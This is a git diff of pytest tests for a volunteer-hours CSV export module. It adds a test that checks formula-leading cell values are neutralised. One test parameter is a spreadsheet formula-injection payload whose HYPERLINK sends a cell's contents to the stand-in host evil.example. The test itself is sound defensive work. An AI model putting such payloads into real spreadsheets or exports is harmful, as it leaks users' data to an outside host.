@@ -10,7 +10,8 @@ from zoneinfo import ZoneInfo
 
 import pytest
 
-from checkin.exports import (
+from checkin.hours.derive import derive_hours
+from checkin.hours.exports import (
     BOM,
     COMPANY_HEADER,
     KINDS,
@@ -30,7 +31,7 @@ from checkin.exports import (
     team_rows,
     write_csv,
 )
-from checkin.hours import Correction, HoursPolicy, LogScan, Shift, VolunteerHours, derive_hours
+from checkin.hours.model import Correction, HoursPolicy, LogScan, Shift, VolunteerHours
 
 TZ = ZoneInfo("Asia/Taipei")
 D24, D25 = date(2024, 2, 24), date(2024, 2, 25)
@@ -123,7 +124,8 @@ def test_event_summary_city_plan_figures(results: list[VolunteerHours]) -> None:
     assert summary.average_hours == pytest.approx(22 / 3)
     assert summary_json(summary) == {
         "volunteers": 3, "total_hours": 22.0, "average_hours": 7.33, "seniors": 1, "senior_share": 0.3333,
-        "unknown_age": 0, "by_category": {"corporate": {"volunteers": 2, "hours": 11.0},
+        "unknown_age": 0, "service_days": 4, "insured_days": 0, "insurance_coverage": 0.0,
+        "by_category": {"corporate": {"volunteers": 2, "hours": 11.0},
                                           "senior": {"volunteers": 1, "hours": 11.0}},
     }
     rows = summary_rows(summary)
@@ -161,3 +163,21 @@ def test_the_same_results_in_any_order_give_the_same_exports(results: list[Volun
     shuffled = list(reversed(results))
     for kind in KINDS:
         assert table(kind, results, MEMBERS, {("T1", D24)}, 2024) == table(kind, shuffled, MEMBERS, {("T1", D24)}, 2024)
+
+
+@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
+                                  "\tx", "\r=1", "-", "=1"])
+def test_a_cell_starting_with_a_formula_character_is_text(text: str) -> None:
+    member = Member(text, "RB-1", text, text, team_id="T1", team=text, company=text)
+    results = [worked("V1", (24, 9, 17))]
+    for kind in KINDS:
+        header, rows = table(kind, results, {"V1": member}, set(), 2024)
+        read = list(csv.reader(io.StringIO(csv_bytes(header, rows).decode("utf-8-sig"))))
+        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for line in read for cell in line), kind
+    (line,) = list(csv.reader(io.StringIO(csv_bytes(["a"], [[text]]).decode("utf-8-sig"))))[1:]
+    assert line == ["'" + text]  # the text itself is kept, behind the quote
+
+
+def test_numbers_written_by_the_export_stay_numbers() -> None:
+    read = list(csv.reader(io.StringIO(csv_bytes(["n"], [["-0.5"], ["12.5%"], ["-3"], ["7"]]).decode("utf-8-sig"))))
+    assert read[1:] == [["-0.5"], ["12.5%"], ["-3"], ["7"]]
